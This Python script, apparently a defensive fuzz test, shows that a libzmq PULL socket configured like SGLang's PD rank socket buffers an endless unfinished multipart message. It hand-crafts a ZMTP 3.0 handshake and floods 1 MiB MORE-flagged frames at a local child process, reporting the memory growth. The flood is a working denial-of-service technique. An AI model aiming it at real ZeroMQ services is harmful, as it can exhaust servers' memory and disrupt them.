"""What a stranger who reaches a PD rank port can make libzmq buffer before any code of ours runs.

A PULL socket set up as sglang_pd sets prefill's rank socket (ZMQ_MAXMSGSIZE: a cap per frame) is bound
in a child process; a raw TCP client speaks ZMTP 3.0 (NULL mechanism, as SGLang's PD sockets use) and
sends frames of 1 MiB with the MORE flag and never a last frame. libzmq keeps an unfinished multipart
message until its last frame arrives, and has no cap on the number of frames, so the child's resident
memory grows with every frame; recv_multipart (and so the gate) never sees the message.

    .venv/bin/python docs/peer_fuzz/unfinished_multipart.py > docs/peer_fuzz/unfinished_multipart.log

Prints one JSON line: the child's RSS before and after, the frames sent.
"""

import json
import socket
import struct
import subprocess
import sys
import time

FRAME_CAP = 16 << 20   # sglang_pd's per-frame cap on prefill's rank socket (zmq_frame_cap's floor)
FRAME_BYTES = 1 << 20
NUM_FRAMES = 400


def rss_mib(pid: int) -> float:
    with open(f"/proc/{pid}/status") as f:
        return next(int(line.split()[1]) for line in f if line.startswith("VmRSS")) / 1024


def child() -> None:
    import zmq

    sock = zmq.Context().socket(zmq.PULL)
    sock.setsockopt(zmq.MAXMSGSIZE, FRAME_CAP)
    print(sock.bind_to_random_port("tcp://127.0.0.1"), flush=True)
    while True:
        if sock.poll(200):
            sock.recv_multipart()


def zmtp_frame(body: bytes, more: bool) -> bytes:
    flags = (0x01 if more else 0) | 0x02  # MORE, LONG (8-byte size)
    return bytes([flags]) + struct.pack(">Q", len(body)) + body


def main() -> None:
    proc = subprocess.Popen([sys.executable, __file__, "child"], stdout=subprocess.PIPE, text=True)
    try:
        port = int(proc.stdout.readline())
        time.sleep(0.5)
        before = rss_mib(proc.pid)
        conn = socket.create_connection(("127.0.0.1", port))
        # ZMTP 3.0 greeting (NULL mechanism, as-server 0), then READY with Socket-Type PUSH
        conn.sendall(b"\xff" + b"\0" * 8 + b"\x7f" + bytes([3, 0]) + b"NULL".ljust(20, b"\0") + b"\0" * 32)
        ready = b"\x05READY" + bytes([11]) + b"Socket-Type" + struct.pack(">I", 4) + b"PUSH"
        conn.sendall(bytes([0x04, len(ready)]) + ready)
        conn.settimeout(5)
        conn.recv(64)
        chunk = b"x" * FRAME_BYTES
        for _ in range(NUM_FRAMES):
            conn.sendall(zmtp_frame(chunk, more=True))
        time.sleep(2)
        after = rss_mib(proc.pid)
        conn.close()
        print(json.dumps({"per_frame_cap_bytes": FRAME_CAP, "frames_sent": NUM_FRAMES, "frame_bytes": FRAME_BYTES,
                          "last_frame_sent": False, "receiver_rss_mib_before": round(before, 1),
                          "receiver_rss_mib_after": round(after, 1)}))
    finally:
        proc.kill()
        proc.wait()


if __name__ == "__main__":
    child() if sys.argv[1:] == ["child"] else main()
